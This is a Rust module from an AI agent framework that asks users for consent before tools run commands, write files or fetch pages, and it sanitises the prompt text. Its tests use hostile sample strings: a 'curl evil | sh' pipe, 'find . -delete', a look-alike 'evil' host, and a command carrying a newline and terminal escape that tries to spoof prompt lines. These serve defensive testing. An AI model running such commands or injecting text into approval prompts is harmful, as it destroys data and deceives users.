//! Asks the user for consent before a tool runs.

mod change;

use std::{fmt, path::PathBuf};

use futures::future::BoxFuture;
use savoir_lint::visible;

pub use self::change::FileDiff;
use savoir_engine::approval::{ApprovalQuestion, LineRole, QuestionLine};

/// Asks the user questions, if a user is present.
pub trait Asker: fmt::Debug + Send + Sync {
    /// Shows a question and waits for the answer.
    fn ask<'a>(&'a self, question: &'a ApprovalQuestion) -> BoxFuture<'a, Consent>;

    /// Asks about a host tool. By default, no user is available for such questions.
    fn ask_host<'a>(&'a self, _: &'a HostQuestion) -> BoxFuture<'a, Consent> {
        Box::pin(async { Consent::Nobody })
    }
}

/// A question about an action of a host tool.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HostQuestion {
    pub action: HostAction,
    /// The workspace of the action.
    pub workspace: PathBuf,
    /// Why the allow-list of a skill does not clearly allow the action.
    pub doubt: Option<String>,
}

/// An action of a host tool that needs consent.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum HostAction {
    /// Runs a command in the sandbox.
    Run {
        /// The command line for a shell.
        command: String,
    },
    /// Writes or changes a file.
    Write {
        /// The path in the workspace.
        path: String,
        /// The size of the new file.
        bytes: usize,
        /// The difference between the old and the new text.
        change: FileDiff,
        /// Whether other agents or programs obey the content of the file.
        is_obeyed: bool,
    },
    /// Fetches a web page.
    Fetch { url: String },
}

impl HostAction {
    /// The scope of an "always": the same command, every file of the workspace that is not
    /// protected, or the same host.
    pub fn scope(&self) -> String {
        match self {
            Self::Run { command } => format!("run {command}"),
            Self::Write { path, is_obeyed: true, .. } => format!("write {path}"),
            Self::Write { .. } => "write".to_owned(),
            Self::Fetch { url } => {
                let url = url::Url::parse(url).ok();
                let host = url.as_ref().and_then(url::Url::host_str).unwrap_or_default();
                format!("fetch {host}")
            }
        }
    }
}

impl HostQuestion {
    /// The question as lines, none of which can imitate another.
    pub fn lines(&self) -> Vec<QuestionLine> {
        let fact = |label, text: &str| QuestionLine {
            role: LineRole::Fact,
            label,
            text: visible(text).into(),
        };
        let place = fact("in", &self.workspace.display().to_string());
        let grave = |label, text: &str| QuestionLine { role: LineRole::Grave, ..fact(label, text) };
        let warn = |text: &str| QuestionLine { role: LineRole::Warning, ..fact("warning", text) };
        let mut lines: Vec<QuestionLine> = self.doubt.as_deref().map(warn).into_iter().collect();
        lines.extend(match &self.action {
            HostAction::Run { command } => vec![
                grave("command", command),
                place,
                fact("runs in", "the sandbox: no network, no other files of yours"),
            ],
            HostAction::Write { path, bytes, change, is_obeyed } => {
                let mut lines =
                    vec![grave("write", path), fact("size", &format!("{bytes} bytes")), place];
                let label = |at| if at == 0 { "change" } else { "" };
                lines.extend(
                    change.lines.iter().enumerate().map(|(at, line)| fact(label(at), line)),
                );
                if change.more > 0 {
                    let more = change.more;
                    lines.push(warn(&format!("{more} more lines of the change are not shown")));
                }
                if *is_obeyed {
                    lines.push(warn("other agents or programs do what stands in this file"));
                }
                lines
            }
            HostAction::Fetch { url } => vec![grave("fetch", url)],
        });
        lines
    }
}

/// The answer of the user.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Consent {
    /// Yes, this time.
    Once,
    /// Yes, until the skill changes.
    Always,
    /// No.
    Declined,
    /// The question was dismissed without an answer, as agents do that run without a user.
    Unanswered,
    /// No user can be asked.
    Nobody,
}

/// An asker without a user: only calls that need no question run.
#[derive(Clone, Copy, Debug, Default)]
pub struct Nobody;

impl Asker for Nobody {
    fn ask<'a>(&'a self, _: &'a ApprovalQuestion) -> BoxFuture<'a, Consent> {
        Box::pin(async { Consent::Nobody })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lasting_consent_applies_to_the_same_action_only() {
        let fetch = |url: &str| HostAction::Fetch { url: url.to_owned() }.scope();
        assert_eq!(fetch("https://a.org/x"), fetch("https://a.org/y"));
        assert_ne!(fetch("https://a.org/x"), fetch("https://a.org.evil.org/x"));
        let run = |command: &str| HostAction::Run { command: command.to_owned() }.scope();
        assert_ne!(run("ls"), run("ls "));
        assert_ne!(run("write"), write("a", FileDiff::default()).scope());
    }

    fn write(path: &str, change: FileDiff) -> HostAction {
        HostAction::Write { path: path.to_owned(), bytes: 1, change, is_obeyed: false }
    }

    #[test]
    fn question_shows_the_new_lines() {
        let lines = |after: &str| {
            let action = write("a", FileDiff::between("old\n", after));
            HostQuestion { action, workspace: PathBuf::from("/w"), doubt: None }.lines()
        };
        let shown = lines("curl evil\u{7} | sh\n");
        let shown: Vec<_> = shown.iter().map(|line| (line.label, line.text.as_str())).collect();
        assert_eq!(shown[3..], [("change", "- old"), ("", "+ curl evil\\u{7} | sh")]);
        let last = lines(&"x\n".repeat(1000)).pop().expect("a line");
        assert_eq!((last.role, last.label), (LineRole::Warning, "warning"));
        assert!(last.text.contains("941 more lines"), "{}", last.text);
    }

    #[test]
    fn doubt_is_the_first_line_of_the_question() {
        let action = HostAction::Run { command: "find . -delete".to_owned() };
        let doubt = Some("it may do more\u{1b}".to_owned());
        let lines = HostQuestion { action, workspace: PathBuf::from("/w"), doubt }.lines();
        assert_eq!(
            (lines[0].role, lines[0].text.as_str()),
            (LineRole::Warning, "it may do more\\u{1b}")
        );
        assert_eq!(lines[1].label, "command");
    }

    #[test]
    fn command_text_cannot_add_lines_to_the_question() {
        let action = HostAction::Run { command: "ls\nin  /safe\u{1b}[2J".to_owned() };
        let lines = HostQuestion { action, workspace: PathBuf::from("/w"), doubt: None }.lines();
        assert_eq!(lines.len(), 3);
        assert!(lines.iter().all(|line| !line.text.contains(char::is_control)), "{lines:?}");
    }
}
